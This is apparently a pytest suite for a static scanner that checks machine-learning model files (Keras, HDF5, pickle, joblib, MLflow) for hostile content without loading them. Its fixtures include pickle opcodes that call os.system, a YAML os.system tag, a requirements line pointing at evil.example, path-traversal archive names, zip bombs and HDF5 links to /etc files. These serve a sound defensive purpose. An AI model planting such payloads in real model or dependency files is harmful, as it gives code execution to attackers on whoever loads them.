"""Model files of every format are scanned without loading them."""

from __future__ import annotations

import json
import pickle
import random
import re
import subprocess
import sys
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path
from typing import Any

import h5py
import joblib
import numpy as np
import pytest

from gauntlet.assurance.scan.findings import Scanned
from gauntlet.assurance.scan.models import RULES, Limits, allowed, scan
from gauntlet.errors import ModelError
from gauntlet.state import PROJECT_ROOT
from tests.gauntlet.assurance.scan.payloads import HOSTILE_CONFIGS, WAYS, Payload, archive, layer, rules


@pytest.mark.parametrize(("config", "found"), HOSTILE_CONFIGS)
def test_a_hostile_configuration_is_told_in_both_formats(
    tmp_path: Path, config: dict[str, Any], found: set[str]
) -> None:
    result = scan(archive(tmp_path / "m.keras", config__json=config))
    assert (rules(result), bool(result.errors)) == (found, "GM004" in found)
    with h5py.File(tmp_path / "m.h5", "w") as opened:
        opened.attrs["model_config"] = json.dumps(config)
    result = scan(tmp_path / "m.h5")
    assert (rules(result), bool(result.errors)) == (found, "GM004" in found)


@pytest.mark.parametrize("name", ["m.keras", "m.h5"])
def test_a_sound_model_has_no_findings(tmp_path: Path, name: str) -> None:
    from gauntlet.quiet import load_tensorflow

    load_tensorflow()
    import keras

    layers = [keras.layers.Conv2D(2, 3, activation=keras.activations.gelu), keras.layers.BatchNormalization()]
    model = keras.Sequential([keras.Input((8, 8, 1)), *layers, keras.layers.Flatten(), keras.layers.Dense(3)])
    rate = keras.optimizers.schedules.ExponentialDecay(0.1, 10, 0.9)
    loss = keras.losses.sparse_categorical_crossentropy
    model.compile(optimizer=keras.optimizers.SGD(rate), loss=loss, metrics=["accuracy"])
    model.save(tmp_path / name)
    assert scan(tmp_path / name) == Scanned()


def test_every_allowed_name_is_one_of_keras_and_takes_no_callable() -> None:
    import inspect

    import keras
    from keras.src import layers, ops

    modules = (layers, keras.initializers, keras.regularizers, keras.constraints, keras.dtype_policies, keras.random)
    older = {"Policy", "TensorShape", "ThresholdedReLU"}
    known = {name for module in modules for name in vars(module)} | older
    operations = {
        name: kind
        for module in vars(ops).values()
        if inspect.ismodule(module)
        for name, kind in vars(module).items()
        if inspect.isclass(kind) and issubclass(kind, keras.Operation)
    }
    assert known >= allowed.LAYERS | allowed.PARTS
    assert set(operations) >= allowed.OPERATIONS
    assert all(hasattr(keras.activations, name) for name in allowed.FUNCTIONS)
    callables = {"f", "func", "function", "cond", "body", "true_fn", "false_fn", "body_fun", "cond_fun", "branches"}
    for name in allowed.OPERATIONS:
        taken = {*inspect.signature(operations[name]).parameters, *inspect.signature(operations[name].call).parameters}
        assert not taken & callables, name


@pytest.mark.parametrize("text", ["{", "[" * 100_000, "", "\xff"])
def test_a_configuration_that_cannot_be_read_does_not_pass(tmp_path: Path, text: str) -> None:
    result = scan(archive(tmp_path / "m.keras", config__json=text))
    assert "config.json" in result.errors[0]


@pytest.mark.parametrize(
    "content", [b"", b"hello", b"\x08\x07onnx", b".", b"\x80", b"PK\x03\x04", b"\x89HDF\r\n\x1a\n"]
)
def test_what_is_no_model_file_never_passes_for_a_clean_one(tmp_path: Path, content: bytes) -> None:
    (tmp_path / "m.keras").write_bytes(content)
    result = scan(tmp_path / "m.keras")
    assert result.findings == ()
    assert len(result.errors) == 1


def test_a_missing_file_and_an_empty_folder(tmp_path: Path) -> None:
    with pytest.raises(ModelError, match="no such model file or folder"):
        scan(tmp_path / "none")
    assert "not a model file" in scan(tmp_path).errors[0]


@pytest.mark.parametrize("name", ["../evil.txt", "/etc/evil", "a/../../b", "..\\evil", "C:\\evil"])
def test_names_that_lead_out_of_an_archive_are_told(tmp_path: Path, name: str) -> None:
    with zipfile.ZipFile(tmp_path / "m.keras", "w") as opened:
        opened.writestr("config.json", "{}")
        opened.writestr(name, pickle.dumps(1))
    assert rules(scan(tmp_path / "m.keras")) == {"GM007"}


def test_bombs_are_told_and_not_unpacked(tmp_path: Path) -> None:
    zeros = b"\0" * (40 << 20)
    result = scan(archive(tmp_path / "m.keras", config__json={}, more=zeros))
    assert rules(result) == {"GM008"}
    assert len(result.errors) == 1
    (tmp_path / "m.joblib").write_bytes(zlib.compress(zeros))
    result = scan(tmp_path / "m.joblib", Limits(member_bytes=1 << 20))
    assert (rules(result), len(result.errors)) == ({"GM008"}, 1)


def test_limits_end_a_look_and_say_so(tmp_path: Path) -> None:
    archive(tmp_path / "many.zip", **{f"m{n}": pickle.dumps(n) for n in range(5)})
    assert len(scan(tmp_path / "many.zip", Limits(files=3)).errors) == 1
    (tmp_path / "long.pkl").write_bytes(pickle.dumps(list(range(1_000))))
    assert "more than 500 opcodes" in scan(tmp_path / "long.pkl", Limits(opcodes=500)).errors[0]
    inner = pickle.dumps(1)
    for depth in range(6):
        inner = archive(tmp_path / f"{depth}.zip", x=inner).read_bytes()
    assert "archives within archives" in scan(tmp_path / "5.zip").errors[0]


def test_an_archive_that_is_a_pickle_too_is_both(tmp_path: Path) -> None:
    zipped = archive(tmp_path / "m.zip", config__json={}).read_bytes()
    (tmp_path / "m.keras").write_bytes(b"cos\nsystem\n(S'id'\ntR." + zipped)
    assert rules(scan(tmp_path / "m.keras")) >= {"GM010", "GM017"}


@pytest.mark.filterwarnings("ignore:Duplicate name")
def test_two_members_of_one_name_are_told(tmp_path: Path) -> None:
    with zipfile.ZipFile(tmp_path / "m.keras", "w") as opened:
        opened.writestr("config.json", "{}")
        opened.writestr("config.json", json.dumps(HOSTILE_CONFIGS[0][0]))
    assert rules(scan(tmp_path / "m.keras")) >= {"GM017", "GM001"}


def test_hdf5_data_in_other_files_is_told(tmp_path: Path) -> None:
    (tmp_path / "secret").write_bytes(b"12345678")
    with h5py.File(tmp_path / "w.h5", "w") as opened:
        opened["link"] = h5py.ExternalLink("/etc/other.h5", "/x")
        opened.create_dataset("a/b", (8,), "u1", external=[(str(tmp_path / "secret"), 0, 8)])
        layout = h5py.VirtualLayout((4,), "f4")
        layout[:] = h5py.VirtualSource("elsewhere.h5", "x", (4,))
        opened.create_virtual_dataset("v", layout)
        opened["again"] = opened["a"]
    result = scan(tmp_path / "w.h5")
    told = " ".join(finding.message for finding in result.findings)
    assert rules(result) == {"GM009"}
    assert all(name in told for name in ("/etc/other.h5", "secret", "elsewhere.h5"))
    inside = archive(tmp_path / "m.keras", config__json={}, model__weights__h5=(tmp_path / "w.h5").read_bytes())
    assert rules(scan(inside)) == {"GM009"}


FLAVORS: list[tuple[dict[str, Any], set[str]]] = [
    ({"sklearn": {"pickled_model": "model.pkl", "serialization_format": "pickle"}}, {"GM014"}),
    ({"sklearn": {"pickled_model": "model.pkl", "serialization_format": "skops"}}, set()),
    ({"python_function": {"loader_module": "mlflow.pyfunc.model", "python_model": "model.pkl"}}, {"GM014"}),
    ({"python_function": {"loader_module": "my.loader", "data": "model.pkl"}}, {"GM015"}),
    ({"python_function": {"loader_module": "mlflow.sklearn", "code": "code"}}, {"GM015"}),
    ({"python_function": {"loader_module": "mlflow.pyfunc.model", "model_code_path": "m.py"}}, {"GM015"}),
    ({"keras": {"data": "../../elsewhere"}}, {"GM007"}),
]


@pytest.mark.parametrize(("flavors", "found"), FLAVORS)
def test_flavors_that_run_code_are_told(tmp_path: Path, flavors: dict[str, Any], found: set[str]) -> None:
    (tmp_path / "MLmodel").write_text(json.dumps({"flavors": flavors}))
    (tmp_path / "conda.yaml").write_text("channels:\n- conda-forge\n")
    (tmp_path / "model.pkl").write_bytes(pickle.dumps({"a": 1}))
    result = scan(tmp_path)
    assert (rules(result), result.errors) == (found, ())


def test_a_folder_is_looked_into_file_by_file(tmp_path: Path) -> None:
    (tmp_path / "MLmodel").write_text(json.dumps({"flavors": {"odd": {"data": "data/notes.txt"}}}))
    (tmp_path / "data").mkdir()
    (tmp_path / "data" / "notes.txt").write_bytes(b"csomebody\nModel\n.")
    (tmp_path / "data" / "config.json").write_text(json.dumps(HOSTILE_CONFIGS[0][0]))
    (tmp_path / "code.py").write_text("x = 1\n")
    (tmp_path / "out.pkl").symlink_to("/etc/hostname")
    result = scan(tmp_path)
    assert {(f.rule, f.file) for f in result.findings} >= {
        ("GM011", "data/notes.txt"),
        ("GM001", "data/config.json"),
        ("GM007", "out.pkl"),
    }
    assert {error.split(":")[0] for error in result.errors} == {"MLmodel", "code.py", "data/notes.txt"}


def seeds(folder: Path) -> list[bytes]:
    """A sound or hostile file of every kind, to be broken."""
    with h5py.File(folder / "s.h5", "w") as opened:
        opened.attrs["model_config"] = json.dumps(HOSTILE_CONFIGS[0][0])
        opened["a/b"], opened["soft"] = np.zeros(9), h5py.SoftLink("/a")
    weights = (folder / "s.h5").read_bytes()
    archive(folder / "s.keras", config__json=HOSTILE_CONFIGS[1][0], schema__json={"a": 1}, w__h5=weights)
    value = [np.arange(50), {"a": (1, 2.5, "x", b"y")}, np.array([1, None], dtype=object)]
    for way in ("joblib", "joblib-zlib", "npy", "npz", "gzip"):
        WAYS[way](value, folder / f"s.{way}")
    pickled = [pickle.dumps(value, protocol) for protocol in range(6)]
    return pickled + [path.read_bytes() for path in sorted(folder.iterdir())]


def broken(content: bytes, draw: random.Random) -> bytes:
    """The content with a few bytes changed, put in, taken out or cut off."""
    result = bytearray(content)
    for _ in range(draw.choice((1, 2, 5, 20))):
        at, how = draw.randrange(len(result)), draw.random()
        if how < 0.6:
            result[at] = draw.randrange(256)
        elif how < 0.8:
            result[at:at] = draw.randbytes(draw.randrange(1, 9))
        elif how < 0.95 or at == 0:
            del result[at + 1 : at + draw.randrange(2, 20)]
        else:
            del result[at:]
    return bytes(result)


def test_broken_files_end_a_look_without_an_exception(tmp_path: Path) -> None:
    draw, ended = random.Random(0), 0
    kinds = seeds(tmp_path)
    for number in range(600):
        path = tmp_path / ("f.keras", "MLmodel", "saved_model.pb", "f.json")[number % 4]
        path.write_bytes(broken(draw.choice(kinds), draw))
        ended += bool(scan(path).errors)
        path.unlink()
    assert ended > 300


@pytest.mark.parametrize("code", [b"\x8e", b"\x8d", b"\x96"])
def test_a_length_is_believed_only_as_far_as_the_file_goes(tmp_path: Path, code: bytes) -> None:
    (tmp_path / "m.pkl").write_bytes(b"\x80\x05" + code + (1 << 62).to_bytes(8, "little") + b"x")
    assert "not a whole pickle" in scan(tmp_path / "m.pkl").errors[0]


def test_a_look_brings_none_of_the_libraries_that_load_models(tmp_path: Path) -> None:
    archive(tmp_path / "m.keras", config__json=HOSTILE_CONFIGS[0][0])
    (tmp_path / "m.pkl").write_bytes(pickle.dumps(Payload(tmp_path / "ran")))
    joblib.dump([np.zeros(3)], tmp_path / "m.joblib")
    code = (
        "import sys; from pathlib import Path; from gauntlet.assurance.scan.models import scan\n"
        f"assert len(scan(Path({str(tmp_path)!r})).findings) == 3\n"
        "print({'keras', 'tensorflow', 'joblib', 'sklearn', 'torch', 'mlflow'} & set(sys.modules))"
    )
    done = subprocess.run([sys.executable, "-c", code], cwd=PROJECT_ROOT, capture_output=True, text=True, check=True)
    assert done.stdout.strip() == "set()"


def test_a_strangers_text_is_safe_to_show(tmp_path: Path) -> None:
    name = "\x1b[2J\u202e" + "x" * 5_000
    result = scan(archive(tmp_path / "m.keras", config__json=layer(class_name="Odd", module=name, config={}))).findings
    assert result[0].message.isprintable()
    assert len(result[0].message) < 500


def test_fingerprints_tell_files_and_contents_apart(tmp_path: Path) -> None:
    def marks(name: str, code: bytes) -> list[str]:
        (tmp_path / name).write_bytes(code)
        return [finding.fingerprint for finding in scan(tmp_path / name).findings]

    first = marks("a.pkl", b"cos\nsystem\n.")
    assert marks("a.pkl", b"I1\n0cos\nsystem\n.") == first
    assert marks("b.pkl", b"cos\nsystem\n.") != first
    assert marks("a.pkl", b"cos\npopen\n.") != first


def test_the_rules_of_the_page_are_those_declared() -> None:
    page = (PROJECT_ROOT / "docs" / "scanning.md").read_text()
    rows = re.findall(r"^\| (GM\d+) \| `(.+?)` \| (\w+) \| (.+?) \| (.+?) \|$", page, flags=re.MULTILINE)
    assert rows == [(r.id, r.name, r.severity, r.message, r.source) for r in RULES.values()]


INERT = {
    "conda.yaml": (b"x: !!python/object/apply:os.system [id]\n", "GM003"),
    "requirements.txt": (b"--index-url http://evil.example/simple\nnumpy\n", "GM015"),
    "below/MLmodel": (b'{"flavors": {"keras": {"keras_module": "evil"}}}', "GM015"),
}


@pytest.mark.parametrize(("name", "content", "rule"), [(n, *facts) for n, facts in INERT.items()], ids=INERT)
def test_texts_that_run_or_fetch_code_are_told(name: str, content: bytes, rule: str, tmp_path: Path) -> None:
    (tmp_path / name).parent.mkdir(exist_ok=True)
    (tmp_path / name).write_bytes(content)
    assert rule in {finding.rule for finding in scan(tmp_path).findings}


ARCHIVES: dict[str, tuple[Callable[[bytes], bytes], str]] = {
    "a comment": (lambda data: data[:-2] + b"\x01\x00x", "behind the archive"),
    "another directory": (lambda data: data[:-6] + (9).to_bytes(4, "little") + data[-2:], "directory is not where"),
}


@pytest.mark.parametrize(("change", "told"), ARCHIVES.values(), ids=ARCHIVES)
def test_an_archive_that_readers_read_differently_is_told(
    change: Callable[[bytes], bytes], told: str, tmp_path: Path
) -> None:
    path = archive(tmp_path / "m.keras", config__json={})
    assert scan(path) == Scanned()
    path.write_bytes(change(path.read_bytes()))
    result = scan(path)
    assert told in " ".join([*(finding.message for finding in result.findings), *result.errors])


def test_members_that_differ_in_case_alone_are_told(tmp_path: Path) -> None:
    path = archive(tmp_path / "m.keras", config__json={}, Config__json={})
    assert rules(scan(path)) == {"GM017"}
